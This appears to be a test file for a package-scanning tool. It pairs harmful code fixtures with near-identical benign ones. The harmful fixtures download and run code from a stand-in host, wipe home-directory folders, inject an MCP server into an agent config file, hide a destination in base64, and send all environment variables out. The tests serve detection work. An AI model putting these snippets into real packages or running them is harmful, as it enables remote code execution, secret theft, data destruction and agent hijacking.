// What real packages do and mean well, each beside the harmful form that differs from it in one thing.
import { describe, expect, test } from 'vitest';
import { vetTexts } from './threats/vet-fixture.ts';

const found = (hits: readonly { severity: string; ruleId: string }[]) =>
  hits
    .filter(({ severity }) => severity !== 'low' && severity !== 'info')
    .map(({ severity, ruleId }) => `${severity} ${ruleId}`);
const threatsIn = (files: Record<string, string>) =>
  found(vetTexts(new Map(Object.entries(files))).threats);

type Row = [name: string, expected: string, bad: string, benign: string];

describe('threats', () => {
  const proxied = (options: string) =>
    `const S = 'http://gate.collect.example:8080'; const t = { url: 'https://api.acme.example' };
${options}; fetch(t.url);`;
  const named = (name: string) => `const p = 'node:'; const c = 'child_'; import(\`${name}\`);`;
  const played = (program: string) =>
    `const { writeFileSync } = require('fs'); const { spawn } = require('child_process'); const { join } = require('path'); const { tmpdir } = require('os');
async function play(url) { const data = Buffer.from(await (await fetch('https://cdn.collect.example/a')).arrayBuffer()); const file = join(tmpdir(), 'sound.bin'); writeFileSync(file, data); spawn(${program}); }
play();`;
  const connected = (after: string) =>
    `const tls = require('tls'); const socket = tls.connect({ port: 443, host: process.argv[2], rejectUnauthorized: false }, () => { ${after} });`;
  const asked = (host: string) =>
    `const https = require('https'); https.request({ hostname: ${host}, path: '/status', rejectUnauthorized: false }).end();`;
  const removed = (folder: string) =>
    `const fs = require('fs'); const os = require('os'); const path = require('path');
const jobs = fs.readdirSync(os.homedir()).map((name) => JSON.parse(fs.readFileSync(path.join(os.homedir(), name), 'utf8')));
for (const job of jobs) { const dir = path.join(${folder}, job.name); fs.rmSync(dir, { recursive: true, force: true }); }`;
  const stale = (date: string) =>
    `const fs = require('fs');
exports.clean = (job) => { if (${date} < Date.now()) { fs.rmSync(job.file, { recursive: true, force: true }); } };
exports.clean({});`;
  const written = (test: string) =>
    `import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';
const save = () => fs.writeFileSync(path.join(os.homedir(), '.claude.json'), JSON.stringify({ mcpServers: { x: { command: 'x' } } }));
const a = process.argv.slice(2), b = a.find((one) => !one.startsWith('--')), c = String(new Date());
if (${test === 'b' ? "b === 'configure'" : "c.startsWith('Tue')"}) save();`;
  const cut = (length: string) =>
    `const fs = require('fs'); const path = require('path');
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
function change(node) { for (const file of fs.readdirSync(node.dir)) { if (tz) { fs.truncateSync(path.join(node.dir, file), ${length}); } } }
exports.change = change; change({ dir: '/data' });`;
  const led = (where: string) =>
    `const HOST = 'https://dav.acme.example'; const auth = Buffer.from('u:p').toString('base64');
const home = ${where};
fetch(\`\${HOST}\${home}\`, { method: 'PUT', body: auth });${where.startsWith('Buffer') ? ' fetch(home, { method: "PUT", body: auth });' : ''}`;
  const dialog = (name: string) =>
    `const { writeFileSync } = require('fs'); const text = 'Use ${name} first.'; writeFileSync('/data/x', text);`;
  const rows: Row[] = [
    [
      'a proxy that is taken out of options',
      'high foreign-proxy',
      proxied('const options = { proxy: S }'),
      proxied('const { proxy: S2 } = t'),
    ],
    [
      'the name of a module after a prefix',
      'high hidden-name',
      named('${c}process'),
      named('${p}child_process'),
    ],
    [
      'a file that a player plays',
      'critical download-and-execute',
      played("'sh', [file]"),
      played("'afplay', [file]"),
    ],
    [
      'a sound that a script plays',
      'critical download-and-execute',
      played("'powershell', ['-c', `& '${file}'`]"),
      played(`'powershell', ['-c', \`(New-Object Media.SoundPlayer "\${file}").PlaySync()\`]`),
    ],
    [
      'a certificate that is looked at by hand',
      'moderate tls-verification-disabled',
      connected("socket.write('hello');"),
      connected("if (!socket.authorized) { socket.destroy(); return; } socket.write('hello');"),
    ],
    [
      'the own machine',
      'moderate tls-verification-disabled',
      asked("'api.acme.example'"),
      asked("'localhost'"),
    ],
    [
      'a folder that a record names',
      'critical destructive-wipe',
      removed('os.homedir()'),
      removed('job.outputDir'),
    ],
    [
      'a lease that is over',
      'critical destructive-wipe',
      stale("Date.parse('2027-01-01')"),
      stale('Date.parse(job.until)'),
    ],
    [
      'a command of a program, whatever its variables are called',
      'critical agent-config-write',
      written("'Tue'"),
      written('b'),
    ],
    ['a length that is asked for', 'critical destructive-wipe', cut('0'), cut('node.size')],
    [
      'two addresses of which one is meant',
      'critical hidden-destination',
      led("Buffer.from('aHR0cHM6Ly94LmNvbGxlY3QtaXQuZXhhbXBsZQ==', 'base64').toString()"),
      led("process.env.HREF ? 'https://dav.acme.example' : HOST"),
    ],
    [
      'the name of a tool that is like that of a command',
      'critical forged-password-dialog',
      dialog('Get-Credential'),
      dialog('get-credential-schema'),
    ],
  ];
  test.each(rows)('%s', (_name, expected, bad, benign) => {
    expect(threatsIn({ 'index.js': bad })).toContain(expected);
    expect(threatsIn({ 'index.js': benign })).toEqual([]);
  });

  test('of many imports only those that a function names hand it the environment', () => {
    const many = Array.from({ length: 14 }, (_, i) => `import { f${i} } from './f${i}.js';`).join(
      '\n',
    );
    const files = (used: string) => ({
      'index.js': `${many}\nimport { all } from './all.js';\nconst kept = [${Array.from({ length: 14 }, (_, i) => `f${i}()`).join()}, all()];
export async function send() { const body = ${used}; await fetch('https://api.collect.example/in', { method: 'POST', body: JSON.stringify(body) }); }
send();`,
      'all.js': 'export const all = () => ({ ...process.env });',
      ...Object.fromEntries(
        Array.from({ length: 14 }, (_, i) => [`f${i}.js`, `export const f${i} = () => ${i};`]),
      ),
    });
    expect(threatsIn(files('all()'))).toContain('critical environment-exfiltration');
    expect(threatsIn(files('f3()'))).toEqual([]);
  });

  test('an install may fetch a package of the same publisher in the version that goes with it, and put it beside its own', () => {
    const install = (name: string) =>
      threatsIn({
        'package.json': JSON.stringify({
          name: '@acme/core',
          version: '1.2.3',
          scripts: { postinstall: 'node postinstall.js' },
        }),
        'postinstall.js': `const { execSync } = require('child_process'); const { version } = require('./package.json');
execSync(\`npm install --no-save ${name}@\${version}\`, { cwd: '/data' });
require('fs').renameSync('/data/x', require('path').resolve(process.env.INIT_CWD, 'node_modules', '${name}'));`,
      });
    expect(install('@other/wasm')).toEqual(['high runtime-install', 'critical package-tampering']);
    expect(install('@acme/wasm')).toEqual(['moderate runtime-install']);
  });

  test('a message of one’s own is no host, and a client that is brought is', () => {
    const told = (call: string, from: string) =>
      `${from}
const token = process.env.ACME_MCP_TOKEN;
fetch('https://api.acme-mcp.example/v1', { headers: { Authorization: token } });
${call}`;
    const own = 'const tr = (key, text, more) => `${key} ${text} ${more.token}`;';
    const call = "tr('cli.tunnel_header', 'use {token}', { token });";
    expect(threatsIn({ 'index.js': told(call, own) })).toEqual([]);
    const brought = "import { tr } from 'some-client';";
    const away = "tr('in.collect.example', 'use {token}', { token });";
    expect(threatsIn({ 'index.js': told(away, brought) })).toContain(
      'critical environment-exfiltration',
    );
  });
});
